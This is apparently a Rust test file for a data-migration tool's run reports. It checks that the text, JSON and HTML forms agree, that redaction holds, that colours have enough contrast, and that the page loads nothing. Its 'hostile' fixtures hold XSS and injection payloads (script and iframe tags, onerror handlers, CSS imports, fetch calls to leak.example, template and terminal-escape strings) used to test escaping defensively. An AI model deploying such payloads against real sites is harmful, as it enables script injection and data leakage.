//! The report of a run: one set of figures in three forms, and a page that asks nobody for anything.

use std::path::Path;
use std::process::Command;

use serde_json::Value as Json;

use super::support::browser::{open_file, open_served};
use super::support::command::Scene;

mod checks;
mod files;

/// The sections of every page, whatever the run was.
const SECTIONS: [&str; 8] = [
    "summary",
    "outcomes",
    "speed",
    "refused",
    "reconciliation",
    "deviations",
    "evidence",
    "glossary",
];

/// A shipped project in a folder of its own, signed, with its sample records loaded.
fn shipped(name: &str, database: &str) -> Scene {
    let scene = Scene::new();
    let from = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("migrations")
        .join(name);
    copy(&from, &scene.path("."));
    assert_eq!(scene.quietly(&["checkpoint", "--new-key"]).code, 0);
    let records = format!("records/{database}.ndjson");
    let loaded = scene.quietly(&["load", database, &records, "--batch-size", "40"]);
    assert_eq!(loaded.code, 0, "{}", loaded.err);
    scene
}

fn copy(from: &Path, to: &Path) {
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let to = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            std::fs::create_dir(&to).unwrap();
            copy(&entry.path(), &to);
        } else {
            std::fs::copy(entry.path(), to).unwrap();
        }
    }
}

/// The bank, with three stages applied and the last of them taken back.
fn bank() -> Scene {
    let scene = shipped("bank", "legacy_transactions");
    let applied = scene.quietly(&["apply", "--batch-size", "40", "--reason", "cut-over, CHG-4711"]);
    assert_eq!(applied.code, 3, "{}", applied.err);
    let undone = scene.quietly(&["rollback", "--yes", "--reason", "another bound"]);
    assert_eq!(undone.code, 0, "{}", undone.err);
    scene
}

/// A store in which everything that people and records may name is an attack on the page.
fn hostile() -> Scene {
    let scene = Scene::new();
    scene.write("counterfoil.toml", "name = \"hostile\"\n");
    scene.write("0001_a.toml", HOSTILE_STAGE);
    let records: Vec<String> = HOSTILE
        .iter()
        .map(|id| serde_json::json!({"id": id, "v": "1.00", "secret": SECRET, "note": id}).to_string())
        .collect();
    let torn = format!("\n{{\"id\":\"torn\",\"secret\":\"{SECRET}\n");
    scene.write("r.ndjson", &(records.join("\n") + &torn));
    assert_eq!(scene.quietly(&["load", "r", "r.ndjson"]).code, 3);
    let output = scene
        .command(&["apply", "--reason", HOSTILE[0]])
        .env("COUNTERFOIL_ACTOR", HOSTILE[1])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    scene
}

const SECRET: &str = "Tr0ub4dor";

const HOSTILE: [&str; 6] = [
    "</q></script><script src=http://leak.example/a.js></script><img src=http://leak.example/b onerror=alert(1)>",
    "\"><link rel=stylesheet href=http://leak.example/c.css><style>@import url(http://leak.example/d);</style>",
    "' style='background:url(http://leak.example/e)",
    "{{ 7*7 }}${7*7}<!-- &lt;b&gt; -->",
    "\u{202e}gnp.exe\u{1b}[2J\u{200b}",
    "a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-\
     a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id",
];

const HOSTILE_STAGE: &str = r#"
[stage]
description = "</style><script>fetch('http://leak.example/f')</script>"
source = "r"
target = "s"
max_errors = "100%"
rounding = "half-even"
redact = ["secret"]

[[op]]
op = "decimal"
path = "v"
places = 2

[[contract.rule]]
name = "</td><iframe src=http://leak.example/g></iframe>"
expect = "= len(doc.secret) < 5"

[[reconcile]]
name = "<object data=http://leak.example/h>"
source = "= decimal(doc.v)"
target = "= decimal(doc.v)"
"#;

fn number(value: &Json) -> u64 {
    value.as_u64().unwrap_or_else(|| panic!("{value} is no count"))
}

fn text(value: &Json) -> &str {
    value.as_str().unwrap_or_else(|| panic!("{value} is no text"))
}

fn list(value: &Json) -> &[Json] {
    value.as_array().unwrap_or_else(|| panic!("{value} is no list"))
}

/// A number or an amount as the page writes it: `-1,234.50`.
fn grouped(number: impl std::fmt::Display) -> String {
    let number = number.to_string();
    let (sign, digits) = number.split_at(usize::from(number.starts_with('-')));
    let (whole, fraction) = digits.split_at(digits.find('.').unwrap_or(digits.len()));
    let triples: Vec<&str> = whole
        .as_bytes()
        .rchunks(3)
        .rev()
        .map(|triple| std::str::from_utf8(triple).unwrap())
        .collect();
    format!("{sign}{}{fraction}", triples.join(","))
}

/// What a reader of a page reads: no markup, one space between words.
fn read(page: &str) -> String {
    let (head, style) = page.split_once("<style>").unwrap();
    let body = style.split_once("</style>").unwrap().1;
    let mut words = String::new();
    let mut inside = false;
    for letter in format!("{head}{body}").chars() {
        match letter {
            '<' => inside = true,
            '>' if inside => {
                inside = false;
                words.push(' ');
            }
            _ if !inside => words.push(letter),
            _ => {}
        }
    }
    for (escape, letter) in [("60", "<"), ("62", ">"), ("34", "\""), ("39", "'"), ("38", "&")] {
        words = words.replace(&format!("&#{escape};"), letter);
    }
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn page(scene: &Scene, run: &str) -> String {
    let ran = scene.quietly(&["report", run, "--html", "-"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    ran.out
}

fn holds_all(told: &str, whole: &str, expected: &[String]) {
    let words: Vec<&str> = whole.split_whitespace().collect();
    let whole = words.join(" ");
    for one in expected {
        assert!(whole.contains(one.as_str()), "{told} lacks `{one}`: {whole}");
    }
}

/// The figures of a report, each as the text and as the page must say it.
fn figures(data: &Json) -> (Vec<String>, Vec<String>) {
    let (mut words, mut page) = (Vec::new(), Vec::new());
    const NAMES: [&str; 6] = ["read", "written", "unchanged", "filtered", "refused", "merged"];
    for pass in list(&data["outcomes"])
        .iter()
        .filter(|pass| pass["kind"] != "reconcile")
    {
        let counts = NAMES.map(|name| grouped(number(&pass["counts"][name])));
        words.push(counts.join(" "));
        page.push(format!("read {} written {}", counts[0], counts[1]));
        page.push(format!("refused {}", counts[4]));
    }
    for cause in list(&data["refused"]["causes"]) {
        let (records, standing) = (number(&cause["records"]), number(&cause["standing"]));
        let row = format!("{} {records} {standing}", text(&cause["code"]));
        words.push(row.clone());
        page.push(row);
        for example in list(&cause["examples"]) {
            let row = format!("{} {}", example["record"], text(&example["id"]));
            words.push(row.clone());
            page.push(row);
        }
    }
    let results = list(&data["reconciliation"])
        .iter()
        .flat_map(|look| list(&look["results"]));
    for result in results {
        for side in ["source", "target"] {
            let records = number(&result[format!("{side}_records")]);
            let amount = text(&result[format!("{side}_amount")]);
            words.push(format!("{side} {records} {amount}"));
            let name = side[..1].to_uppercase() + &side[1..];
            page.push(format!("{name} {} {}", grouped(records), grouped(amount)));
        }
        words.push(format!("difference {}", text(&result["difference"])));
        page.push(format!("Difference {}", grouped(text(&result["difference"]))));
    }
    let last = &data["evidence"]["last"];
    for hash in ["head", "tree_root"] {
        words.push(text(&last[hash]).to_owned());
        page.push(text(&last[hash]).to_owned());
    }
    for line in text(&data["evidence"]["checkpoint"]["note"]).lines() {
        words.push(line.to_owned());
        page.push(line.to_owned());
    }
    let summary = &data["summary"];
    for fact in ["command_line", "actor", "reason", "uuid", "tool", "host"] {
        words.push(text(&summary[fact]).to_owned());
        page.push(text(&summary[fact]).to_owned());
    }
    (words, page)
}

#[test]
fn the_json_the_text_and_the_page_say_the_same_figures() {
    for (scene, run) in [
        (bank(), "3"),
        (bank(), "4"),
        (
            {
                let scene = shipped("shop_recompute", "orders_v1");
                assert_eq!(scene.quietly(&["apply", "--reason", "by rule"]).code, 3);
                scene
            },
            "3",
        ),
    ] {
        let data = &scene.envelope(&["report", run])["data"];
        let (words, figures) = figures(data);
        assert!(words.len() > 10, "{words:?}");
        holds_all("the text", &scene.quietly(&["report", run]).out, &words);
        holds_all("the page", &read(&page(&scene, run)), &figures);
    }
}

#[test]
fn what_a_reconciliation_leaves_unexplained_is_told_to_the_cent() {
    let scene = shipped("shop_recompute", "orders_v1");
    scene.quietly(&["apply"]);
    let data = &scene.envelope(&["report"])["data"];
    assert_eq!(data["summary"]["ending"], "unreconciled");
    let totals = &data["reconciliation"][0]["results"][0];
    assert_eq!(totals["unexplained"], "-14.75");
    let words = read(&page(&scene, "3"));
    for told in [
        "not reconciled 2 reconciliations leave something unexplained",
        "Source 295 10,825,104,418.08 refused 23 -8,124.87 unexplained 28 -14.75 Target 272 10,825,096,278.46",
        "Difference -8,139.62 Unexplained (28 keys beyond the tolerance) -14.75 Tolerance 0.00",
    ] {
        assert!(
            words.to_lowercase().contains(&told.to_lowercase()),
            "{told}: {words}"
        );
    }
}

#[test]
fn every_kind_of_run_says_how_it_ended_as_the_ledger_stands_now() {
    let scene = shipped("shop", "orders_v1");
    let ending = |run: &str| {
        let summary = scene.envelope(&["report", run])["data"]["summary"].clone();
        assert!(page(&scene, run).ends_with("</html>\n"));
        text(&summary["ending"]).to_owned()
    };
    assert_eq!([ending("1"), ending("2")], ["done", "done"]);
    let stopped = scene.quietly(&["apply", "--batch-size", "20", "--max-errors", "0"]);
    assert_eq!(stopped.code, 6, "{}", stopped.err);
    assert_eq!(ending("3"), "interrupted");
    assert!(page(&scene, "3").contains("<strong>not ended</strong>"));
    assert_eq!(scene.quietly(&["apply", "--max-errors", "100%"]).code, 3);
    assert_eq!([ending("3"), ending("4")], ["refused_left", "refused_left"]);
    let whole = &scene.envelope(&["report", "3"])["data"]["outcomes"][0]["whole"];
    assert_eq!((number(&whole["read"]), number(&whole["written"])), (295, 272));
    let edited = scene.quietly(&["delete", "orders_v1", "ORD-2024-003", "--reason", "a test order"]);
    assert_eq!(edited.code, 0, "{}", edited.err);
    assert_eq!(ending("5"), "done");
    scene.quietly(&["apply"]);
    assert_eq!(ending("6"), "done");
    assert_eq!(scene.quietly(&["rollback", "--all", "--yes"]).code, 0);
    assert_eq!(
        [ending("3"), ending("4"), ending("7")],
        ["undone", "undone", "done"]
    );
    let undone = read(&page(&scene, "4"));
    assert!(
        undone.contains("Records of this run were rolled back since") && undone.contains("by ada"),
        "{undone}"
    );
}

#[test]
fn what_a_later_run_refuses_again_is_not_called_done() {
    let scene = shipped("shop", "orders_v1");
    assert_eq!(scene.quietly(&["apply"]).code, 3);
    let refused = || scene.envelope(&["report", "3"])["data"]["refused"].clone();
    assert_eq!(
        (number(&refused()["records"]), number(&refused()["standing"])),
        (23, 23)
    );
    // All but one are refused again, by the retry.
    let order = scene.quietly(&["query", "orders_v1", "--id", "ORD-2024-033"]).out;
    scene.write(
        "corrected.ndjson",
        &order.replace("\"quantities\":\"1,2\"", "\"quantities\":\"1,2,3\""),
    );
    scene.quietly(&["load", "orders_v1", "corrected.ndjson", "--replace"]);
    assert_eq!(scene.quietly(&["quarantine", "retry"]).code, 3);
    assert_eq!(number(&refused()["standing"]), 22);
    scene.quietly(&[
        "quarantine",
        "waive",
        "--code",
        "map.unknown",
        "--reason",
        "abroad",
    ]);
    let report = scene.envelope(&["report", "3"]);
    assert_eq!(
        report["data"]["summary"]["ending_told"],
        "19 of 23 refused records are still in quarantine"
    );
    let lengths = list(&report["data"]["refused"]["causes"])
        .iter()
        .find(|cause| cause["code"] == "items.length");
    assert_eq!(number(&lengths.unwrap()["standing"]), 2);
}

#[test]
fn an_interrupted_run_that_was_taken_back_does_not_wait_to_go_on() {
    let scene = shipped("shop", "orders_v1");
    assert_eq!(
        scene
            .quietly(&["apply", "--batch-size", "20", "--max-errors", "0"])
            .code,
        6
    );
    let rolled = scene.quietly(&["rollback", "--yes"]);
    assert_eq!(rolled.code, 0, "{}", rolled.err);
    let summary = &scene.envelope(&["report", "3"])["data"]["summary"];
    assert_eq!(summary["ending"], "undone");
    assert_eq!(
        summary["ending_told"],
        "all of what it wrote was rolled back since"
    );
}

#[test]
fn in_a_browser_every_section_is_there_and_nothing_is_asked_of_the_network() {
    let bank = bank();
    let hostile = hostile();
    let pages = [
        (&bank, "1"),
        (&bank, "3"),
        (&bank, "4"),
        (&hostile, "2"),
        (&hostile, "3"),
    ];
    std::thread::scope(|threads| {
        let seen = pages.map(|(scene, run)| {
            let page = page(scene, run);
            threads.spawn(move || (run, open_served(&page)))
        });
        for (run, seen) in seen.map(|thread| thread.join().unwrap()) {
            for section in SECTIONS {
                let heading = format!("<section id=\"{section}\" aria-labelledby=\"{section}-title\">");
                assert!(
                    seen.dom.contains(&heading),
                    "run {run}: no {section}: {}",
                    seen.dom
                );
            }
            assert!(seen.dom.contains(&format!("<h1>Run {run}")), "{}", seen.dom);
            let page_alone = matches!(&seen.requests[..], [only] if only.ends_with("/page HTTP/1.1"));
            assert!(page_alone, "run {run} asks for more: {:?}", seen.requests);
        }
    });
}

#[test]
fn the_listener_of_the_tests_sees_what_a_page_asks_for() {
    let folder = tempfile::tempdir().unwrap();
    let control = folder.path().join("control.html");
    let page = "<!doctype html><img src=http://leak.example/seen><script src=https://leak.example/too></script>\
                <style>@import url(http://leak.example/style);</style>";
    std::fs::write(&control, page).unwrap();
    let seen = open_file(&control).requests;
    for request in [
        "GET http://leak.example/seen ",
        "CONNECT leak.example:443 ",
        "GET http://leak.example/style ",
    ] {
        assert!(
            seen.iter().any(|line| line.starts_with(request)),
            "{request}: {seen:?}"
        );
    }
    // The same, under the rules that a page of ours gives to the browser.
    let rules =
        "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; style-src 'unsafe-inline'\">";
    std::fs::write(&control, page.replace("<img", &format!("{rules}<img"))).unwrap();
    assert_eq!(open_file(&control).requests, [""; 0]);
}

#[test]
fn a_page_has_rules_that_forbid_scripts_and_loading_and_needs_neither() {
    let tags = regex::Regex::new(r"<([a-zA-Z]+)([^>]*)>").unwrap();
    let (bank, hostile) = (bank(), hostile());
    for (scene, run) in [
        (&bank, "1"),
        (&bank, "3"),
        (&bank, "4"),
        (&hostile, "2"),
        (&hostile, "3"),
    ] {
        let page = page(scene, run);
        let rules = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; \
                     img-src data:; base-uri 'none'; form-action 'none'\">";
        let (before, _) = page.split_once(rules).expect("the rules");
        assert!(
            !before.contains("<style") && !before.contains("<link"),
            "the rules come first"
        );
        for tag in tags.captures_iter(&page) {
            let (name, attributes) = (&tag[1], &tag[2]);
            let loads = [
                "script", "img", "iframe", "object", "embed", "form", "base", "audio", "video", "image",
                "use",
            ];
            assert!(!loads.contains(&name), "{}", &tag[0]);
            assert!(
                !attributes.contains(" src=") && !attributes.contains(" on"),
                "{}",
                &tag[0]
            );
            if let Some((_, address)) = attributes.split_once("href=") {
                assert!(
                    address.starts_with("\"#") || address.starts_with("\"data:,\""),
                    "{}",
                    &tag[0]
                );
            }
        }
        let style = page
            .split_once("<style>")
            .unwrap()
            .1
            .split_once("</style>")
            .unwrap()
            .0;
        assert_eq!(style.matches("url(").count(), style.matches("url(#").count());
        assert!(!style.contains("@import"));
    }
}

#[test]
fn hostile_names_are_text_in_the_page_and_inert_on_a_terminal() {
    let scene = hostile();
    let page = page(&scene, "3");
    let told = scene.quietly(&["report", "3"]).out;
    for shown in [
        "&#60;/q&#62;&#60;/script&#62;&#60;script src=http://leak.example/a.js&#62;",
        "&#34;&#62;&#60;link rel=stylesheet",
        "&#39; style=&#39;background:url(",
        "{{ 7*7 }}${7*7}&#60;!-- &#38;lt;b&#38;gt; --&#62;",
        r"\u{202e}gnp.exe\u{1b}[2J\u{200b}",
    ] {
        assert!(page.contains(shown), "{shown}: {page}");
    }
    assert!(!page.contains("49${") && !page.contains(['\u{202e}', '\u{1b}', '\u{200b}']));
    assert!(!told.contains(['\u{202e}', '\u{1b}']), "{told}");
    // The browser has read all of it as words, too.
    let dom = open_served(&page).dom;
    for tag in [
        "<script",
        "<img",
        "<iframe",
        "<object",
        "leak.example/e)\">",
        "leak.example/c.css\">",
    ] {
        assert!(!dom.contains(tag), "{tag}: {dom}");
    }
}

#[test]
fn a_redacted_value_is_in_none_of_the_forms_even_with_the_records_shown() {
    let (hostile, clinic) = (hostile(), Scene::clinic());
    clinic.quietly(&["load", "records_v1", "readings.ndjson"]);
    assert_eq!(clinic.quietly(&["apply"]).code, 3);
    let names = ["Lovelace", "Hopper", "Hamilton", "Lamarr", SECRET];
    for (scene, runs) in [(&hostile, ["2", "3"]), (&clinic, ["2", "3"])] {
        for run in runs {
            for form in [
                &["report", run][..],
                &["--json", "report", run],
                &["report", run, "--html", "-"],
            ] {
                for shown in [&[][..], &["--inputs", "--examples", "100"]] {
                    let ran = scene.quietly(&[form, shown].concat());
                    assert_eq!(ran.code, 0, "{}", ran.err);
                    let told = ran.out + &ran.err;
                    assert!(
                        !names.iter().any(|name| told.contains(name)),
                        "{form:?} {shown:?}: {told}"
                    );
                }
            }
        }
    }
    let shown = scene_inputs(&clinic);
    assert!(shown.contains("[redacted]") && shown.contains("n/a"), "{shown}");
}

fn scene_inputs(scene: &Scene) -> String {
    let report = scene.envelope(&["report", "3", "--inputs"]);
    report["data"]["refused"]["causes"][0]["examples"][0]["input"].to_string()
}

/// WCAG's contrast of two colours `#rrggbb`.
fn contrast(one: &str, other: &str) -> f64 {
    let light = |colour: &str| {
        let part = |at: usize| f64::from(u8::from_str_radix(&colour[at..at + 2], 16).unwrap()) / 255.0;
        let linear = |value: f64| {
            if value <= 0.04045 {
                value / 12.92
            } else {
                ((value + 0.055) / 1.055).powf(2.4)
            }
        };
        0.2126 * linear(part(1)) + 0.7152 * linear(part(3)) + 0.0722 * linear(part(5))
    };
    let (one, other) = (light(one), light(other));
    (one.max(other) + 0.05) / (one.min(other) + 0.05)
}

#[test]
fn words_and_bars_can_be_told_from_the_paper_in_light_in_dark_and_in_print() {
    let scene = bank();
    let page = page(&scene, "3");
    let themes: Vec<&str> = page
        .split(":root {")
        .skip(1)
        .map(|rest| rest.split('}').next().unwrap())
        .collect();
    assert_eq!(themes.len(), 3, "light, dark and print");
    assert!(
        page.contains("prefers-color-scheme: dark")
            && page.contains("@media print")
            && page.contains("@page")
    );
    for theme in themes {
        let colour = |name: &str| {
            let at = theme
                .find(&format!("--{name}: #"))
                .unwrap_or_else(|| panic!("no {name}"));
            &theme[at + name.len() + 4..][..7]
        };
        for (words, paper, least) in [
            ("ink", "page", 7.0),
            ("ink", "code", 7.0),
            ("ink", "open-back", 7.0),
            ("soft", "page", 4.5),
            ("accent", "page", 4.5),
            ("good", "good-back", 4.5),
            ("open", "open-back", 4.5),
            ("open", "page", 4.5),
            ("written", "page", 3.0),
            ("unchanged", "page", 3.0),
            ("filtered", "page", 3.0),
            ("refused", "page", 3.0),
            ("merged", "page", 3.0),
        ] {
            let found = contrast(colour(words), colour(paper));
            assert!(found >= least, "{words} on {paper}: {found:.2} in {theme}");
        }
    }
}

#[test]
fn the_browser_is_installed_once_however_many_tests_ask_at_once() {
    use std::os::unix::fs::PermissionsExt as _;
    if !Path::new("/usr/bin/flock").exists() {
        eprintln!("skipped: there is no flock here, which keeps the installations apart");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let place = |name: &str| folder.path().join(name);
    let program = |name: &str, text: &str| {
        std::fs::write(place(name), text).unwrap();
        std::fs::set_permissions(place(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    for tool in ["sh", "flock", "cat", "sleep", "chmod"] {
        let found = ["/usr/bin", "/bin"].map(|folder| Path::new(folder).join(tool));
        let found = found.iter().find(|path| path.exists()).unwrap();
        std::os::unix::fs::symlink(found, place(tool)).unwrap();
    }
    program("id", "#!/bin/sh\necho 0\n");
    // Debian's, as far as this is concerned: it takes a while, and in the end the program is there.
    let install = format!(
        "#!/bin/sh\ncd {0}\necho \"$*\" >> asked\ncase $1 in install) sleep 0.3; echo '#!/bin/sh' > chromium; chmod 755 \
         chromium;; esac\n",
        folder.path().display()
    );
    program("apt-get", &install);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser.sh");
    let ask = || {
        let mut command = Command::new("/bin/sh");
        command.arg(&script).env_clear().env("PATH", folder.path());
        command
    };
    let found: Vec<String> = std::thread::scope(|threads| {
        let asking: Vec<_> = (0..4)
            .map(|_| threads.spawn(|| ask().output().unwrap()))
            .collect();
        let answers = asking.into_iter().map(|thread| thread.join().unwrap().stdout);
        answers.map(|answer| String::from_utf8(answer).unwrap()).collect()
    });
    let expected = format!("{}\n", place("chromium").display());
    assert!(found.iter().all(|path| *path == expected), "{found:?}");
    let asked = std::fs::read_to_string(place("asked")).unwrap();
    assert_eq!(asked.lines().count(), 2, "{asked}");
    assert!(asked.contains("install -y --no-install-recommends") && asked.ends_with("chromium\n"));
    // Who may not install is told what to do, and the tests fail.
    std::fs::remove_file(place("chromium")).unwrap();
    program("id", "#!/bin/sh\necho 1000\n");
    let refused = ask().output().unwrap();
    assert!(!refused.status.success() && refused.stdout.is_empty());
    let told = String::from_utf8_lossy(&refused.stderr);
    assert!(
        told.contains("apt-get install -y --no-install-recommends chromium"),
        "{told}"
    );
    assert!(told.contains("COUNTERFOIL_BROWSER="), "{told}");
    let named = ask()
        .env("COUNTERFOIL_BROWSER", place("missing"))
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&named.stderr).contains("which cannot be run"));
}
